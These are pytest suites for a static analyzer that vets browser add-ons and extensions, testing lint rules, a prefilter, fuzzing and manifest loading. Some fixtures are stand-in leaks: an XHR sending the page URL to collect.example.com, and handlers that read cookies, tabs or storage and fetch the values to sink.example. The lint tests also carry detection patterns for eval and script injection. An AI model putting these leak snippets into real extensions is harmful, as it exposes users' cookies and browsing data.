        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.write_vars[(1, "a")] is False
        assert sets.write_vars[(2, "a")] is False

    def test_array_push_effect_writes_this_props(self):
        program, result, rw = setup("var a = []; a.push('v');")
        stmt = find(program, CallStmt)
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.write_props, "push should write the array's properties"
        assert not sets.write_props[0].strong

    def test_unknown_call_conservative_effects(self):
        program, result, rw = setup("var o = {p: 1}; mystery(o);")
        stmt = find(program, CallStmt)
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.read_props and sets.write_props
