"""Pipeline fuzzing: random programs through every phase.

These are the "does the compiler fall over" properties:

- printer round-trip: printing a random AST and re-parsing yields a
  structurally identical AST;
- total pipeline: parse -> lower -> analyze -> PDG -> signature runs to
  completion on arbitrary generated programs (soundness of the harness
  itself — no crashes, no missing transfer functions, CFGs well formed);
- basic well-formedness invariants of the IR and PDG hold for arbitrary
  inputs.
"""

import pytest
from hypothesis import HealthCheck, given, settings

from repro.analysis import analyze
from repro.ir import lower
from repro.ir.nodes import EdgeKind, ExitStmt
from repro.js import parse
from repro.js.printer import print_program
from repro.pdg import build_pdg
from repro.signatures import infer_signature
from repro.browser import mozilla_spec

from tests.js.strategies import programs
from tests.js.test_printer import strip_positions

_SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


class TestPrinterFuzz:
    @_SETTINGS
    @given(programs())
    def test_printer_roundtrip_on_random_asts(self, program):
        # Raw generated ASTs may be normalized once by printing (e.g. a
        # dangling-else consequent gains braces), so the property is that
        # one print/parse trip reaches a fixpoint: printing the reparsed
        # tree and parsing again is the identity.
        printed = print_program(program)
        normalized = parse(printed)
        reprinted = print_program(normalized)
        again = parse(reprinted)
        assert strip_positions(again) == strip_positions(normalized), printed


class TestPipelineFuzz:
    @_SETTINGS
    @given(programs())
    def test_lowering_produces_wellformed_ir(self, program):
        printed = print_program(program)
        ir = lower(parse(printed), event_loop=False)
        for function in ir.functions.values():
            assert function.statements, function.name
            assert isinstance(function.exit, ExitStmt)
            for stmt in function.statements:
                for edge in stmt.edges:
                    target = ir.stmts[edge.target]
                    # Intraprocedural edges stay within the function.
                    assert ir.owner[target.sid] == function.fid

    @_SETTINGS
    @given(programs(max_statements=4))
    def test_full_pipeline_never_crashes(self, program):
        printed = print_program(program)
        ir = lower(parse(printed), event_loop=False)
        result = analyze(ir, max_steps=120_000)
        pdg = build_pdg(result)
        detail = infer_signature(result, pdg, mozilla_spec())
        assert detail.signature is not None

    @_SETTINGS
    @given(programs(max_statements=4))
    def test_pdg_edges_reference_known_statements(self, program):
        printed = print_program(program)
        ir = lower(parse(printed), event_loop=False)
        result = analyze(ir, max_steps=120_000)
        pdg = build_pdg(result)
        for (source, target) in pdg.edges:
            assert source in ir.stmts and target in ir.stmts
