"""One span grammar everywhere: lint findings and recovery skips.

Recovery-mode parsing records a :class:`Span` for each statement it
drops, rendered exactly like a lint finding's span, so the two kinds of
triage output point at source identically. These tests pin that shared
``line:col`` / ``line:col-line:col`` grammar and the JSON shape.
"""

from pathlib import Path

import pytest

from repro.js import parse_with_recovery
from repro.js.errors import SourcePosition, Span
from repro.lint import lint_source

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "addons"

pytestmark = pytest.mark.lint


class TestSpanRendering:
    def test_point_span_renders_single_position(self):
        span = Span.at(SourcePosition(3, 7))
        assert str(span) == "3:7"

    def test_range_span_renders_both_ends(self):
        span = Span(SourcePosition(6, 0), SourcePosition(8, 0))
        assert str(span) == "6:0-8:0"

    def test_to_json_shape(self):
        span = Span(SourcePosition(1, 2, 5), SourcePosition(3, 4, 9))
        assert span.to_json() == {
            "start": {"line": 1, "column": 2},
            "end": {"line": 3, "column": 4},
        }


class TestRecoverySkipSpans:
    SOURCE = "var a = 1;\nwith (a) {\n  b = 2;\n}\nvar c = 3;\n"

    def test_skip_records_full_statement_span(self):
        _, skipped = parse_with_recovery(self.SOURCE)
        assert len(skipped) == 1
        span = skipped[0].span
        assert span is not None
        assert (span.start.line, span.start.column) == (2, 0)
        assert span.end.line >= 4  # through the resynchronization point

    def test_skip_renders_in_lint_span_grammar(self):
        _, skipped = parse_with_recovery(self.SOURCE)
        rendered = skipped[0].render()
        assert f"at {skipped[0].span}" in rendered

    def test_r001_finding_carries_the_skip_span(self):
        findings = [
            finding for finding in lint_source(self.SOURCE)
            if finding.rule == "R001"
        ]
        assert len(findings) == 1
        _, skipped = parse_with_recovery(self.SOURCE)
        assert findings[0].span == skipped[0].span


class TestLintAndRecoveryAgree:
    """broken_legacy.js: JS004 (token rule) and R001 (parser skip)
    anchor to the same ``with`` statement."""

    def test_same_start_position(self):
        source = (EXAMPLES / "broken_legacy.js").read_text(encoding="utf-8")
        by_rule = {
            finding.rule: finding for finding in lint_source(source)
        }
        assert {"JS004", "R001"} <= set(by_rule)
        assert by_rule["JS004"].span.start == by_rule["R001"].span.start
