"""The relevance prefilter's soundness, proven addon-by-addon.

The claim: for every addon, vetting with the prefilter produces exactly
the signature (and verdict) that vetting without it produces —
bit-identical rendered text — because the prefilter only takes the fast
lane when *no* run of the full analysis could emit an entry. These
tests check that equality over the whole benchmark corpus and the whole
examples corpus, under plain parsing, recovery mode, and budget-trip
degradation; plus the individual disqualifiers (dynamic code, dynamic
properties, degraded input) that must force the full pipeline.
"""

from pathlib import Path

import pytest

from repro.addons import CORPUS
from repro.api import vet
from repro.browser import mozilla_spec
from repro.faults import Budget
from repro.js import parse
from repro.lint.surface import (
    addon_surface,
    decide_relevance,
    spec_surface,
)
from repro.signatures import parse_signature, subsumes

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_FILES = sorted((REPO / "examples" / "addons").glob("*.js"))

pytestmark = pytest.mark.lint

IRRELEVANT = """
var palette = { light: "#fff", dark: "#000" };
function pick(name) {
  if (name == "dark") { return palette.dark; }
  return palette.light;
}
var chosen = pick("light");
"""

RELEVANT = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "http://collect.example.com/" + document.location.href);
xhr.send();
"""


def _identical(source: str, **kwargs) -> None:
    fast = vet(source, prefilter=True, **kwargs)
    slow = vet(source, prefilter=False, **kwargs)
    assert fast.signature.render() == slow.signature.render()
    assert fast.degraded == slow.degraded
    if fast.comparison is not None or slow.comparison is not None:
        assert fast.comparison.verdict == slow.comparison.verdict
        assert fast.comparison.extra == slow.comparison.extra
        assert fast.comparison.missing == slow.comparison.missing


class TestCorpusIdentity:
    """Every benchmark addon: prefilter on == prefilter off."""

    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_bit_identical_signature_and_verdict(self, spec):
        manual = parse_signature(spec.manual_signature_text)
        extras = (
            frozenset(parse_signature(spec.real_extras_text).entries)
            if spec.real_extras_text
            else frozenset()
        )
        _identical(spec.source(), manual=manual, real_extras=extras)

    @pytest.mark.parametrize("spec", CORPUS, ids=lambda s: s.name)
    def test_corpus_addons_are_never_prefiltered(self, spec):
        # The benchmark corpus is all spec-relevant by construction.
        report = vet(spec.source(), prefilter=True)
        assert not report.prefiltered


class TestExamplesIdentity:
    """Every example addon, including under recovery mode."""

    @pytest.mark.parametrize(
        "path", EXAMPLE_FILES, ids=lambda p: p.name
    )
    def test_bit_identical_under_recovery(self, path):
        _identical(path.read_text(encoding="utf-8"), recover=True)

    def test_examples_corpus_has_prefilter_hits(self):
        hits = [
            path.name
            for path in EXAMPLE_FILES
            if vet(path.read_text(encoding="utf-8"), recover=True,
                   prefilter=True).prefiltered
        ]
        # shortcut_palette is the resolver's hit: its only dynamism is
        # a provably-constant computed key, so the fast lane needs the
        # pre-analysis to take it.
        assert hits == ["clock_badge.js", "shortcut_palette.js", "ui_theme.js"]


class TestDisqualifiers:
    """Each fast-lane disqualifier forces the full pipeline."""

    def test_irrelevant_addon_is_prefiltered(self):
        report = vet(IRRELEVANT, prefilter=True)
        assert report.prefiltered
        assert report.result is None and report.pdg is None
        assert len(report.signature) == 0

    def test_relevant_addon_is_not_prefiltered(self):
        assert not vet(RELEVANT, prefilter=True).prefiltered

    def test_dynamic_code_disqualifies(self):
        # Irrelevant surface + eval: no fast lane, ever.
        source = IRRELEVANT + "\neval('anything');"
        report = vet(source, prefilter=True)
        assert not report.prefiltered
        decision = decide_relevance(parse(source), mozilla_spec())
        assert decision.reason == "dynamic-code"

    def test_aliased_eval_disqualifies(self):
        source = IRRELEVANT + "\nvar e = eval;"
        decision = decide_relevance(parse(source), mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-code"

    def test_string_timer_disqualifies(self):
        source = IRRELEVANT + "\nsetTimeout('tick()', 50);"
        decision = decide_relevance(parse(source), mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-code"

    def test_dynamic_properties_disqualify(self):
        source = IRRELEVANT + "\nvar w = whatever[pick('dark')];"
        decision = decide_relevance(parse(source), mozilla_spec())
        assert decision.relevant and decision.reason == "dynamic-properties"

    def test_degraded_input_disqualifies(self):
        decision = decide_relevance(
            parse(IRRELEVANT), mozilla_spec(), degraded=True
        )
        assert decision.relevant and decision.reason == "degraded-input"

    def test_recovery_skips_force_full_analysis(self):
        # An otherwise-irrelevant addon with an unparseable statement:
        # the skipped statement could have been anything, so no fast lane.
        source = IRRELEVANT + "\nwith (palette) { light = dark; }"
        report = vet(source, recover=True, prefilter=True)
        assert not report.prefiltered
        assert report.degraded

    def test_spec_overlap_reports_the_shared_names(self):
        decision = decide_relevance(parse(RELEVANT), mozilla_spec())
        assert decision.reason == "surface-overlap"
        assert {"open", "send"} <= decision.overlap


class TestBudgetDegradation:
    """Prefilter composes soundly with budget-trip ⊤-widening."""

    def test_relevant_addon_identical_under_tiny_budget(self):
        # Both lanes run the full (degrading) pipeline: identical.
        _identical(RELEVANT, budget=Budget(max_steps=5))

    def test_irrelevant_addon_empty_below_degraded_top(self):
        # Without the prefilter a tiny budget trips and ⊤-widens; with
        # it, the interpreter never runs, so nothing trips and the empty
        # signature stands. Soundness here is subsumption, not equality:
        # the degraded ⊤ must cover the (exact) empty signature.
        fast = vet(IRRELEVANT, prefilter=True, budget=Budget(max_steps=2))
        slow = vet(IRRELEVANT, prefilter=False, budget=Budget(max_steps=2))
        assert fast.prefiltered and not fast.degraded
        assert slow.degraded
        assert subsumes(slow.signature, fast.signature)
        # And the prefiltered answer equals the un-budgeted exact one.
        exact = vet(IRRELEVANT, prefilter=False)
        assert fast.signature.render() == exact.signature.render()


class TestSurfaceApproximation:
    """The surface walk over-approximates every naming construct."""

    def test_identifiers_and_properties_collected(self):
        surface = addon_surface(parse("var a = obj.prop; thing(a);"))
        assert {"a", "obj", "prop", "thing"} <= surface.names

    def test_literal_computed_key_collected_statically(self):
        surface = addon_surface(parse("var v = box['lid'];"))
        assert "lid" in surface.names
        assert not surface.dynamic_properties

    def test_declarations_params_and_object_keys_collected(self):
        source = "function f(arg) { var local = 1; } var o = { key2: 3 };"
        surface = addon_surface(parse(source))
        assert {"f", "arg", "local", "o", "key2"} <= surface.names

    def test_spec_surface_covers_mozilla_spec(self):
        names = spec_surface(mozilla_spec())
        # Sources, sinks, and APIs all contribute.
        assert {"href", "keyCode", "send", "open", "eval",
                "loadSubScript"} <= names
