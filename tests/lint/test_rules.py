"""The lint rule engine: per-rule behavior and the golden report.

The golden-file test pins the exact rendered findings for the examples
corpus — rule ids, spans, messages, ordering, and counts — so any
accidental drift in the engine or a rule shows up as a readable diff.
"""

from pathlib import Path

import pytest

from repro.lint import Severity, all_rules, lint_paths, lint_source, rule_table
from repro.lint.engine import expand_paths

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples" / "addons"
GOLDEN = Path(__file__).with_name("golden_examples.txt")

pytestmark = pytest.mark.lint


def _rules_of(source: str) -> list[str]:
    return [finding.rule for finding in lint_source(source)]


class TestRegistry:
    def test_registered_rule_ids(self):
        ids = [rule.id for rule in all_rules()]
        assert ids == ["CG001", "CG002"] + [f"JS00{n}" for n in range(1, 9)]

    def test_rule_table_includes_frontend_pseudo_rules(self):
        ids = {row[0] for row in rule_table()}
        assert {"R000", "R001"} <= ids
        assert {"WEB001", "WEB002", "WEB003"} <= ids
        assert {"CG001", "CG002"} <= ids
        assert len(ids) == 15

    def test_rule_metadata_complete(self):
        for rule in all_rules():
            assert rule.id and rule.name and rule.description
            assert isinstance(rule.severity, Severity)


class TestDynamicCodeRules:
    def test_eval_call(self):
        assert "JS001" in _rules_of("eval('alert(1)');")

    def test_aliased_eval_not_flagged_by_js001(self):
        # Aliasing hides the call site; the *prefilter* still catches the
        # identifier, but JS001 only fires on direct calls.
        assert "JS001" not in _rules_of("var e = eval; e('x');")

    def test_function_constructor(self):
        assert "JS002" in _rules_of("var f = new Function('return 1;');")
        assert "JS002" in _rules_of("var f = Function('return 1;');")

    def test_string_timer(self):
        assert "JS003" in _rules_of("setTimeout('tick()', 100);")
        assert "JS003" in _rules_of("setInterval('x' + cmd, 100);")

    def test_function_timer_clean(self):
        assert _rules_of("setTimeout(function() { return 1; }, 100);") == []

    def test_with_statement_found_at_token_level(self):
        found = _rules_of("with (o) { x = 1; }\n")
        assert "JS004" in found
        assert "R001" in found  # the parser skipped it too


class TestSurfaceRules:
    def test_sensitive_property_write(self):
        assert "JS005" in _rules_of("document.cookie = 'a=1';")
        assert "JS005" in _rules_of("el.innerHTML = markup;")

    def test_plain_property_write_clean(self):
        assert _rules_of("obj.total = 3;") == []

    def test_dynamic_property_access_on_browser_root(self):
        assert "JS006" in _rules_of("var v = window[name];")

    def test_dynamic_property_access_on_plain_object_clean(self):
        assert "JS006" not in _rules_of("var v = table[name];")

    def test_literal_computed_access_clean(self):
        assert "JS006" not in _rules_of("var v = window['top'];")

    def test_prefix_hostile_conditional(self):
        found = _rules_of(
            "var u = flag ? 'http://a.example/x' : 'http://b.example/y';"
        )
        assert "JS007" in found

    def test_prefix_friendly_conditional_clean(self):
        # One branch is a prefix of the other: the join stays precise.
        found = _rules_of(
            "var u = flag ? 'http://a.example/' : 'http://a.example/deep';"
        )
        assert "JS007" not in found

    def test_prefix_hostile_concat(self):
        assert "JS007" in _rules_of("var u = base + '/api/v1';")

    def test_constant_head_concat_clean(self):
        assert "JS007" not in _rules_of("var u = 'http://a.example' + path;")

    def test_script_injection(self):
        assert "JS008" in _rules_of("loader.loadSubScript('chrome://x.js');")
        assert "JS008" in _rules_of("document.write('<s></s>');")
        assert "JS008" in _rules_of("var s = document.createElement('script');")

    def test_create_element_div_clean(self):
        assert "JS008" not in _rules_of("var d = document.createElement('div');")


class TestFrontendFindings:
    def test_lex_error_single_finding(self):
        findings = lint_source("var ok = 1;\nvar bad = @;")
        assert [finding.rule for finding in findings] == ["R000"]
        assert findings[0].severity is Severity.ERROR

    def test_findings_sorted_and_stable(self):
        source = "eval(a);\ndocument.cookie = 'x';\neval(b);"
        first = lint_source(source)
        second = lint_source(source)
        assert [f.render() for f in first] == [f.render() for f in second]
        lines = [f.span.start.line for f in first]
        assert lines == sorted(lines)


class TestGoldenReport:
    """The full examples-corpus report, pinned byte-for-byte."""

    def _report_text(self) -> str:
        lines = []
        for path in sorted(EXAMPLES.glob("*.js")):
            for finding in lint_source(
                path.read_text(encoding="utf-8"), filename=path.name
            ):
                lines.append(finding.render())
        return "\n".join(lines) + "\n"

    def test_examples_match_golden(self):
        assert GOLDEN.exists(), (
            "golden file missing; regenerate with: PYTHONPATH=src python -m "
            "tests.lint.test_rules"
        )
        assert self._report_text() == GOLDEN.read_text(encoding="utf-8")

    def test_every_rule_fires_somewhere_in_examples(self):
        fired = {
            finding.rule
            for path in sorted(EXAMPLES.glob("*.js"))
            for finding in lint_source(path.read_text(encoding="utf-8"))
        }
        assert {f"JS00{n}" for n in range(1, 9)} <= fired
        assert "R001" in fired

    def test_json_report_schema(self):
        report = lint_paths([EXAMPLES])
        data = report.to_json()
        assert data["schema"] == "addon-sig/lint/v2"
        assert set(data["summary"]) == {"error", "warning", "info"}
        for finding in data["findings"]:
            assert set(finding) == {
                "rule", "name", "severity", "message", "span", "file",
            }
            assert set(finding["span"]) == {"start", "end"}
        assert data["surfaces"], "per-file surface section missing"
        for surface in data["surfaces"].values():
            assert set(surface) == {
                "dynamic_code", "dynamic_code_sites", "dynamic_properties",
                "dynamic_property_sites", "resolved_sites",
                "residual_dynamic_sites",
            }
            for span in surface["dynamic_code_sites"]:
                assert set(span) == {"start", "end"}


def test_expand_paths_sorts_directory(tmp_path):
    (tmp_path / "b.js").write_text("var b = 1;")
    (tmp_path / "a.js").write_text("var a = 1;")
    (tmp_path / "notes.txt").write_text("not js")
    expanded = expand_paths([tmp_path])
    assert [p.name for p in expanded] == ["a.js", "b.js"]


if __name__ == "__main__":  # golden-file regeneration helper
    GOLDEN.write_text(TestGoldenReport()._report_text(), encoding="utf-8")
    print(f"regenerated {GOLDEN}")
