"""The lattice-law sanitizer, as a pytest suite.

``addon-sig selfcheck`` runs the same checks from the command line;
here each domain is its own test so a violated law names the domain
that broke. A deliberately-broken toy lattice proves the checker
actually detects violations rather than vacuously passing.
"""

import pytest

from repro.lint import run_selfcheck
from repro.lint.selfcheck import DomainCheck, Transfer, _LawChecker

RESULTS = {check.domain: check for check in run_selfcheck()}

pytestmark = pytest.mark.lint


class TestRealDomains:
    def test_every_domain_covered(self):
        assert set(RESULTS) == {
            "prefix", "bools", "numbers", "values", "stringset", "state",
            "keyvalue",
        }

    @pytest.mark.parametrize("domain", sorted(RESULTS))
    def test_laws_hold(self, domain):
        check = RESULTS[domain]
        assert check.ok, check.render()
        assert check.checks > 0

    def test_total_check_count_is_substantial(self):
        # The values closure alone contributes tens of thousands.
        assert sum(check.checks for check in RESULTS.values()) > 50_000


class TestCheckerDetectsViolations:
    """A rigged three-point chain with broken operators."""

    # Elements 0 < 1 < 2 under the intended order.

    def _run(self, *, leq=None, join=None, transfers=()):
        checker = _LawChecker(
            "rigged",
            [0, 1, 2],
            leq=leq or (lambda a, b: a <= b),
            join=join or max,
            bottom=0,
            top=2,
            transfers=transfers,
        )
        return checker.run()

    def test_sound_toy_lattice_passes(self):
        result = self._run()
        assert isinstance(result, DomainCheck)
        assert result.ok

    def test_broken_join_caught(self):
        # min is the meet, not the join: fails the upper-bound law.
        result = self._run(join=min)
        assert not result.ok
        assert any("join" in violation for violation in result.violations)

    def test_broken_order_caught(self):
        # An order that is not antisymmetric (everything relates).
        result = self._run(leq=lambda a, b: True)
        assert not result.ok

    def test_non_monotone_transfer_caught(self):
        # 0↦2, 2↦0 inverts the chain: monotonicity must fail.
        flip = Transfer("flip", lambda a: 2 - a)
        result = self._run(transfers=(flip,))
        assert not result.ok
        assert any("flip" in violation for violation in result.violations)

    def test_monotone_transfer_passes(self):
        cap = Transfer("cap", lambda a: min(a, 1))
        assert self._run(transfers=(cap,)).ok
