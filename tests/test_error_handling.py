"""Error-path tests: the pipeline fails cleanly on bad input."""

import pytest

from repro.api import vet
from repro.js.errors import LexError, ParseError, UnsupportedSyntaxError


class TestFrontendErrors:
    def test_syntax_error_raises_parse_error(self):
        with pytest.raises(ParseError):
            vet("var = ;")

    def test_lex_error_propagates(self):
        with pytest.raises(LexError):
            vet("var x = 'unterminated")

    def test_unsupported_syntax_names_construct(self):
        with pytest.raises(UnsupportedSyntaxError) as excinfo:
            vet("with (obj) { f(); }")
        assert "with" in str(excinfo.value)

    def test_errors_carry_positions(self):
        with pytest.raises(ParseError) as excinfo:
            vet("var x = 1;\nvar = 2;")
        assert excinfo.value.position is not None
        assert excinfo.value.position.line == 2


class TestAnalysisRobustness:
    def test_empty_program(self):
        report = vet("")
        assert len(report.signature) == 0

    def test_comment_only_program(self):
        report = vet("// nothing here\n/* still nothing */")
        assert len(report.signature) == 0

    def test_deeply_nested_expressions(self):
        depth = 200
        source = "var x = " + "(" * depth + "1" + ")" * depth + ";"
        report = vet(source)
        assert report.ast_nodes >= 3

    def test_long_statement_chain(self):
        source = "\n".join(f"var v{i} = {i};" for i in range(300))
        report = vet(source)
        assert report.ast_nodes > 900

    def test_handler_that_throws_uncaught(self):
        # Uncaught exceptions terminate (no edges); analysis still
        # completes and later handlers are still analyzed.
        report = vet(
            """
            window.addEventListener("load", function (e) {
                throw "boom";
            }, false);
            var xhr = new XMLHttpRequest();
            xhr.open("GET", "https://ok.example/x", true);
            xhr.send(null);
            """
        )
        assert "ok.example" in report.signature.render()

    def test_self_registering_handler_converges(self):
        report = vet(
            """
            function again(e) { window.addEventListener("load", again, false); }
            window.addEventListener("load", again, false);
            """
        )
        assert len(report.signature) == 0
