"""manifest.json parsing: the analysis-relevant subset, strictly."""

import pytest

from repro.webext.manifest import ExtensionManifest, ManifestError

pytestmark = pytest.mark.webext


class TestManifestParsing:
    def test_mv3_service_worker_becomes_background(self):
        manifest = ExtensionManifest.from_text(
            '{"name": "x", "manifest_version": 3,'
            ' "background": {"service_worker": "bg.js"}}'
        )
        assert manifest.background_scripts == ("bg.js",)
        assert manifest.manifest_version == 3

    def test_mv2_background_scripts_keep_order(self):
        manifest = ExtensionManifest.from_text(
            '{"manifest_version": 2,'
            ' "background": {"scripts": ["a.js", "b.js"]}}'
        )
        assert manifest.background_scripts == ("a.js", "b.js")

    def test_content_scripts_with_matches(self):
        manifest = ExtensionManifest.from_text(
            '{"content_scripts": [{"matches": ["<all_urls>"],'
            ' "js": ["c1.js", "c2.js"]}]}'
        )
        (script,) = manifest.content_scripts
        assert script.matches == ("<all_urls>",)
        assert script.js == ("c1.js", "c2.js")

    def test_externally_connectable_matches(self):
        manifest = ExtensionManifest.from_text(
            '{"externally_connectable": {"matches": ["*://*.example.com/*"]}}'
        )
        assert manifest.externally_connectable == ("*://*.example.com/*",)

    def test_script_files_background_first(self):
        manifest = ExtensionManifest.from_text(
            '{"background": {"service_worker": "bg.js"},'
            ' "content_scripts": [{"js": ["c.js"]}]}'
        )
        assert manifest.script_files() == ("bg.js", "c.js")

    def test_unknown_keys_ignored(self):
        manifest = ExtensionManifest.from_text(
            '{"name": "x", "icons": {"16": "i.png"}, "minimum_chrome_version": "99"}'
        )
        assert manifest.name == "x"

    def test_invalid_json_raises_manifest_error(self):
        with pytest.raises(ManifestError):
            ExtensionManifest.from_text("{not json")

    def test_non_object_raises(self):
        with pytest.raises(ManifestError):
            ExtensionManifest.from_text("[1, 2]")

    def test_non_string_permission_raises(self):
        with pytest.raises(ManifestError):
            ExtensionManifest.from_text('{"permissions": ["cookies", 3]}')

    def test_background_must_be_object(self):
        with pytest.raises(ManifestError):
            ExtensionManifest.from_text('{"background": "bg.js"}')
