"""Property-based tests over generated message-passing extensions.

The generator builds random-but-well-formed extensions: a background
handler that leaks privileged data (cookies/tabs/storage) to a network
sink, and a random topology of content scripts relaying messages. The
property is the paper's conditional-flow monotonicity: inserting a
sender guard in front of the leak can only *weaken* (or preserve) every
flow's type — never strengthen one, and never invent a new flow.
"""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.api import vet
from repro.signatures.flowtypes import DEFAULT_LATTICE
from repro.webext.loader import ExtensionBundle

pytestmark = pytest.mark.webext

_SETTINGS = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)

#: Privileged reads the generated handler can leak, by permission name.
_LEAKS = {
    "cookies": (
        "chrome.cookies.getAll({domain: m.d}, function (data) {"
        " fetch('https://sink.example/x?v=' + data[0].value + '&m=' + m.tag);"
        " });"
    ),
    "tabs": (
        "chrome.tabs.query({}, function (data) {"
        " fetch('https://sink.example/x?v=' + data[0].url + '&m=' + m.tag);"
        " });"
    ),
    "storage": (
        "chrome.storage.local.get('k', function (data) {"
        " fetch('https://sink.example/x?v=' + data.k + '&m=' + m.tag);"
        " });"
    ),
}

_GUARDS = (
    "sender.url === 'https://app.example/'",
    "sender.origin === 'https://app.example'",
    "sender.id === 'expected-extension-id'",
    "sender.url.startsWith('https://app.example/')",
)

_SENDERS = (
    "chrome.runtime.sendMessage({d: document.location.hostname, tag: 'a'});",
    "chrome.runtime.sendMessage({d: 'fixed', tag: document.location.href});",
    "chrome.runtime.sendMessage('ping');",
    "var quiet = 1;",
)


@st.composite
def extension_pairs(draw):
    """(unguarded bundle, guarded bundle): identical but for the guard."""
    leak_kind = draw(st.sampled_from(sorted(_LEAKS)))
    guard = draw(st.sampled_from(_GUARDS))
    event = draw(st.sampled_from(["onMessage", "onMessageExternal"]))
    content_sources = draw(
        st.lists(st.sampled_from(_SENDERS), min_size=1, max_size=3)
    )
    leak = _LEAKS[leak_kind]

    def background(guarded: bool) -> str:
        body = f"if ({guard}) {{ {leak} }}" if guarded else leak
        return (
            f"chrome.runtime.{event}.addListener("
            f"function (m, sender, r) {{ {body} }});"
        )

    content_entries = [
        {"matches": ["<all_urls>"], "js": [f"c{i}.js"]}
        for i in range(len(content_sources))
    ]
    import json

    manifest = json.dumps({
        "name": "generated",
        "manifest_version": 3,
        "permissions": [leak_kind],
        "background": {"service_worker": "bg.js"},
        "content_scripts": content_entries,
    })

    def bundle(guarded: bool) -> ExtensionBundle:
        files = [("bg.js", background(guarded))]
        files.extend(
            (f"c{i}.js", source) for i, source in enumerate(content_sources)
        )
        return ExtensionBundle(
            name="generated", manifest_text=manifest, files=tuple(sorted(files))
        )

    return bundle(False), bundle(True)


def flow_types(report):
    return {
        (e.source, e.sink, e.domain): e.flow_type
        for e in report.signature.flows
    }


class TestGuardMonotonicity:
    @_SETTINGS
    @given(extension_pairs())
    def test_guard_insertion_never_strengthens_a_flow(self, pair):
        unguarded_bundle, guarded_bundle = pair
        unguarded = flow_types(vet(unguarded_bundle.to_text()))
        guarded = flow_types(vet(guarded_bundle.to_text()))
        # No new flows appear, and every surviving flow is no stronger.
        assert set(guarded) <= set(unguarded)
        for key, guarded_type in guarded.items():
            assert DEFAULT_LATTICE.stronger_or_equal(
                unguarded[key], guarded_type
            ), (key, unguarded[key], guarded_type)

    @_SETTINGS
    @given(extension_pairs())
    def test_generated_extensions_analyze_cleanly(self, pair):
        for bundle in pair:
            report = vet(bundle.to_text())
            assert not report.degraded
            # The leak must be visible in the unguarded variant at least
            # as an API/flow mention of the sink.
            assert report.counters["components"] >= 2
