"""Bundle loading and the single-text serialization."""

import pytest

from repro.webext.loader import (
    ExtensionBundle,
    bundle_from_dir,
    bundle_from_text,
    is_bundle_text,
    load_source,
)
from repro.webext.manifest import ManifestError

pytestmark = pytest.mark.webext

MANIFEST = (
    '{"name": "demo", "manifest_version": 3,'
    ' "background": {"service_worker": "bg.js"},'
    ' "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}'
)


def demo_bundle() -> ExtensionBundle:
    return ExtensionBundle(
        name="demo",
        manifest_text=MANIFEST,
        files=(("bg.js", "var a = 1;"), ("c.js", "var b = 2;")),
    )


class TestBundle:
    def test_components_background_first(self):
        names = [c.name for c in demo_bundle().components()]
        assert names == ["background", "content"]

    def test_missing_referenced_file_is_tolerated(self):
        bundle = ExtensionBundle(
            name="demo", manifest_text=MANIFEST, files=(("bg.js", ""),)
        )
        assert [c.name for c in bundle.components()] == ["background"]
        assert bundle.missing_files() == ("c.js",)

    def test_text_round_trip(self):
        bundle = demo_bundle()
        text = bundle.to_text()
        assert is_bundle_text(text)
        restored = bundle_from_text(text)
        assert restored == bundle

    def test_to_text_is_deterministic(self):
        assert demo_bundle().to_text() == demo_bundle().to_text()

    def test_plain_source_is_not_bundle_text(self):
        assert not is_bundle_text("var x = 1;")
        # A JS object literal that merely *contains* the magic key later
        # in the text must not be sniffed as a bundle.
        assert not is_bundle_text('{"a": 1, "%webext-bundle": 1}')

    def test_bundle_from_text_rejects_garbage(self):
        with pytest.raises(ManifestError):
            bundle_from_text("{broken")
        with pytest.raises(ManifestError):
            bundle_from_text('{"no": "magic"}')


class TestLoadSource:
    def test_directory_serializes_to_bundle(self, tmp_path):
        (tmp_path / "manifest.json").write_text(MANIFEST)
        (tmp_path / "bg.js").write_text("var a = 1;")
        (tmp_path / "c.js").write_text("var b = 2;")
        text = load_source(tmp_path)
        assert is_bundle_text(text)
        bundle = bundle_from_text(text)
        assert bundle.file_map["bg.js"] == "var a = 1;"

    def test_plain_file_returns_contents(self, tmp_path):
        addon = tmp_path / "addon.js"
        addon.write_text("var x = 1;")
        assert load_source(addon) == "var x = 1;"

    def test_directory_without_manifest_raises(self, tmp_path):
        (tmp_path / "a.js").write_text("var x = 1;")
        with pytest.raises(ManifestError):
            load_source(tmp_path)

    def test_bad_manifest_fails_at_load_time(self, tmp_path):
        (tmp_path / "manifest.json").write_text("{broken")
        with pytest.raises(ManifestError):
            bundle_from_dir(tmp_path)

    def test_nested_directories_use_posix_paths(self, tmp_path):
        (tmp_path / "manifest.json").write_text("{}")
        (tmp_path / "sub").mkdir()
        (tmp_path / "sub" / "x.js").write_text("var x = 1;")
        bundle = bundle_from_dir(tmp_path)
        assert "sub/x.js" in bundle.file_map


class TestStrictDirLoading:
    """Disk loads refuse broken script references with a typed
    ManifestError — never a bare KeyError/FileNotFoundError, never a
    silently-empty component (generator fuzzing produces both shapes)."""

    def test_missing_content_script_is_refused(self, tmp_path):
        (tmp_path / "manifest.json").write_text(MANIFEST)
        (tmp_path / "bg.js").write_text("var a = 1;")
        # c.js, referenced by content_scripts, is absent on disk.
        with pytest.raises(ManifestError, match="missing scripts.*c.js"):
            bundle_from_dir(tmp_path)

    def test_zero_script_content_entry_is_refused(self, tmp_path):
        (tmp_path / "manifest.json").write_text(
            '{"name": "demo", "manifest_version": 3,'
            ' "content_scripts": [{"matches": ["<all_urls>"], "js": []}]}'
        )
        with pytest.raises(ManifestError, match="lists no js files"):
            bundle_from_dir(tmp_path)

